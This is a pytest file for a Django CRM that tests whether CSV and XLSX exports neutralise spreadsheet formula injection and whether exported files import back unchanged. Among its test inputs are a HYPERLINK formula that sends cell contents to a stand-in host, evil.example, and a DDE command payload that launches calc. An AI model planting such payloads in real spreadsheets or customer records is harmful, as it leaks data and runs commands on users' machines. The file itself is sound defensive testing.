"""What the export files hold: CSV and XLSX that import back unchanged, typed XLSX cells,
and no spreadsheet formula a customer's text could smuggle in."""

from __future__ import annotations

import csv
import datetime
import io
import zipfile
from decimal import Decimal
from typing import Any

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from elo.contacts.models import Employment, Organization, Person, PersonEmail, PersonPhone
from elo.interchange.export_cells import csv_cell, spreadsheet_safe
from elo.interchange.exports import stream_csv, write_xlsx
from elo.interchange.services import import_file

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+2", "'=1+2"),
        (HYPERLINK, "'" + HYPERLINK),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("+351 912 345 678", "+351 912 345 678"),
        ("+1 (555) 010-0199", "+1 (555) 010-0199"),
        ("-12.50", "-12.50"),
        ("-1,234.50", "-1,234.50"),
        ("+12/03/2026", "+12/03/2026"),
        ("-2+3", "'-2+3"),
        ("+A1*2", "'+A1*2"),
        ("-", "'-"),
        ("+351 912, +351 913", "'+351 912, +351 913"),
        ("\t=1+2", "'\t=1+2"),
        ("\rcmd", "'\rcmd"),
        ("Ana = Bob", "Ana = Bob"),
        ("Maria-José", "Maria-José"),
        ("", ""),
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(
    text: str, written: str
) -> None:
    assert spreadsheet_safe(text) == written
    line = next(stream_csv([[text]]))
    assert next(csv.reader(io.StringIO(line))) == [written]


def test_csv_cells_write_types_as_elo_reads_them() -> None:
    moment = datetime.datetime(2026, 3, 1, 14, 30, tzinfo=datetime.UTC)
    values = [None, True, False, 42, Decimal("-7.50"), datetime.date(2026, 3, 1), moment]
    assert [csv_cell(value) for value in values] == [
        "",
        "true",
        "false",
        "42",
        "-7.50",
        "2026-03-01",
        "2026-03-01T14:30:00+00:00",
    ]


def _xlsx(response: Any) -> Any:
    assert response.status_code == 200, getattr(response, "content", b"")
    body = b"".join(response.streaming_content)
    return body, load_workbook(io.BytesIO(body)).active


def test_xlsx_has_a_bold_frozen_header_and_typed_cells(
    admin: Any, web: Any, make_organization: Any
) -> None:
    from elo.sales import services as sales

    sales.pipeline_ensure_default()
    organization = make_organization(owner=admin, name=HYPERLINK)
    deal = sales.deal_create(
        actor=admin,
        data={"title": "@SUM(A1)", "amount": "1234.50", "currency": "EUR",
              "probability": 40, "expected_close": "2027-03-31",
              "organization": organization.pk, "owner": admin.pk},
    )  # fmt: skip
    body, sheet = _xlsx(web(admin).get("/export/deals.xlsx"))
    assert sheet.freeze_panes == "A2"
    header = [cell.value for cell in sheet[1]]
    assert header[:4] == ["elo_id", "external_id", "title", "pipeline"]
    assert all(cell.font.b for cell in sheet[1])
    row = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
    assert (row["elo_id"].value, row["elo_id"].data_type) == (deal.pk, "n")
    assert (row["amount"].value, row["amount"].data_type) == (1234.5, "n")
    assert row["probability"].value == 40
    assert row["expected_close"].value == datetime.datetime(2027, 3, 31)
    assert row["expected_close"].is_date and not row["amount"].is_date
    created = row["created_at"].value
    expected = timezone.localtime(deal.created_at).replace(tzinfo=None)
    assert abs(created - expected) < datetime.timedelta(milliseconds=1)
    # Text is text, even when it reads like a formula: stored as a string, as typed.
    assert (row["title"].value, row["title"].data_type) == ("@SUM(A1)", "s")
    assert (row["organization"].value, row["organization"].data_type) == (HYPERLINK, "s")
    assert not [cell for line in sheet.iter_rows() for cell in line if cell.data_type == "f"]
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml


def test_xlsx_keeps_text_as_text_and_drops_what_xml_cannot_hold() -> None:
    handle = io.BytesIO()
    write_xlsx(
        [["postal_code", "name", "note", "code", "sum"],
         ["01310-100", "Bell\x07", "a\nb", "#N/A", "=1+2"]],
        handle,
    )  # fmt: skip
    sheet = load_workbook(io.BytesIO(handle.getvalue())).active
    assert [(cell.value, cell.data_type) for cell in sheet[2]] == [
        ("01310-100", "s"),
        ("Bell", "s"),
        ("a\nb", "s"),
        ("#N/A", "s"),
        ("=1+2", "s"),
    ]


def test_csv_export_of_a_list_guards_every_text_cell(
    admin: Any, web: Any, make_person: Any, make_organization: Any
) -> None:
    organization = make_organization(owner=admin, name="-2+3 Lda")
    make_person(
        owner=admin,
        given_name="=cmd|' /C calc'!A0",
        family_name="@Silva",
        emails=["ana@example.com"],
        phones=["+351912345678"],
        organizations=[{"organization": organization.pk, "job_title": "+Boss"}],
    )
    response = web(admin).get("/export/people.csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [(row["given_name"], row["family_name"], row["organization"], row["job_title"],
             row["phones"]) for row in rows] == [
        ("'=cmd|' /C calc'!A0", "'@Silva", "'-2+3 Lda", "'+Boss", "+351912345678"),
    ]  # fmt: skip


def test_the_accountant_csv_uses_the_same_guard(manager: Any, rep: Any, web: Any) -> None:
    from elo.billing import services as billing
    from elo.contacts.services import organization_create
    from elo.sales.services import quotes

    organization = organization_create(actor=rep, data={"name": "=1+2 Ltda"})
    quote = quotes.quote_create(
        actor=rep,
        data={"title": "Seats", "currency": "EUR", "organization": organization.pk,
              "lines": [{"description": "Seats", "unit_price": "10"}]},
    )  # fmt: skip
    quotes.quote_set_status(actor=rep, quote=quote, status="sent")
    quotes.quote_set_status(actor=rep, quote=quote, status="accepted")
    order = billing.order_from_quote(actor=rep, quote=quote)
    billing.invoice_issue(actor=manager, invoice=billing.invoice_draft(actor=manager, order=order))
    response = web(manager).get("/invoices/export.csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [row["customer"] for row in rows] == ["'=1+2 Ltda"]


# --- round trips --------------------------------------------------------------------------


def _people() -> list[tuple[Any, ...]]:
    return sorted(
        (
            person.given_name,
            person.family_name,
            person.external_id,
            tuple(e.email for e in person.emails.order_by("position", "id")),
            tuple(p.number for p in person.phones.order_by("position", "id")),
            tuple((j.organization_id, j.job_title) for j in person.employments.all()),
            (person.street, person.city, person.region, person.postal_code, person.country),
            person.lifecycle_stage,
            person.preferred_language,
            tuple(sorted(tag.name for tag in person.tags.all())),
            person.owner_id,
            person.custom,
        )
        for person in Person.objects.all()
    )


def _organizations() -> list[tuple[Any, ...]]:
    return sorted(
        (
            organization.name,
            organization.external_id,
            tuple(organization.domains),
            organization.industry,
            organization.size,
            organization.tax_id,
            organization.website,
            tuple(organization.phones),
            tuple(
                (address.get("street", ""), address.get("city", ""), address.get("country", ""))
                for address in organization.addresses
            ),
            tuple(sorted(tag.name for tag in organization.tags.all())),
            organization.owner_id,
            organization.custom,
        )
        for organization in Organization.objects.all()
    )


def _download(client: Any, url: str) -> bytes:
    response = client.get(url)
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def _import(admin: Any, entity: str, body: bytes, file_format: str) -> tuple[int, int, int, int]:
    run = import_file(
        actor=admin, entity=entity, stream=io.BytesIO(body), filename=f"{entity}.{file_format}"
    )
    return (run.created_count, run.updated_count, run.unchanged_count, run.rejected_count)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_people_round_trip_through_the_importer(
    file_format: str, admin: Any, web: Any, make_person: Any, make_organization: Any
) -> None:
    from elo.core.services import custom_field_create

    custom_field_create(actor=admin, entity="person", key="tier", label="Tier", field_type="text")
    acme = make_organization(owner=admin, name="Padaria São Jorge", external_id="org-1")
    make_person(
        owner=admin,
        given_name="João",
        family_name="Conceição",
        external_id="crm-1",
        emails=["joao@example.pt", "joao.trabalho@example.pt"],
        phones=["+351912345678", "+351913000000"],
        organizations=[{"organization": acme.pk, "job_title": "Gerente"}],
        street="Rua das Flores 12",
        city="Porto",
        postal_code="4050-262",
        country="PT",
        tags=["vip", "porto"],
        custom={"tier": "=gold"},
    )
    make_person(owner=admin, given_name="-Ana", family_name="Lima", emails=["ana@example.com"])
    body = _download(web(admin), f"/export/people.{file_format}")
    before = _people()
    # As an upsert into the same database: every row matches and changes nothing.
    assert _import(admin, "people", body, file_format) == (0, 0, 2, 0)
    assert _people() == before
    # Into a database without those people: the same records come back.
    Employment.objects.all().delete()
    PersonEmail.objects.all().delete()
    PersonPhone.objects.all().delete()
    Person.tags.through.objects.all().delete()
    Person.objects.all().delete()
    assert _import(admin, "people", body, file_format) == (2, 0, 0, 0)
    assert _people() == before
    assert _import(admin, "people", body, file_format) == (0, 0, 2, 0)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_organizations_round_trip_through_the_importer(
    file_format: str, admin: Any, web: Any, make_organization: Any
) -> None:
    make_organization(
        owner=admin,
        name="Acme Ltda",
        external_id="org-1",
        domains=["acme.com.br"],
        industry="Retail",
        website="https://acme.com.br",
        phones=["+551130000000"],
        addresses=[{"street": "Av. Paulista 1000", "city": "São Paulo", "country": "BR"}],
        tags=["key account"],
    )
    make_organization(owner=admin, name="@Beta", external_id="org-2")
    body = _download(web(admin), f"/export/organizations.{file_format}")
    before = _organizations()
    assert _import(admin, "organizations", body, file_format) == (0, 0, 2, 0)
    assert _organizations() == before
    Organization.tags.through.objects.all().delete()
    Organization.objects.all().delete()
    assert _import(admin, "organizations", body, file_format) == (2, 0, 0, 0)
    assert _organizations() == before
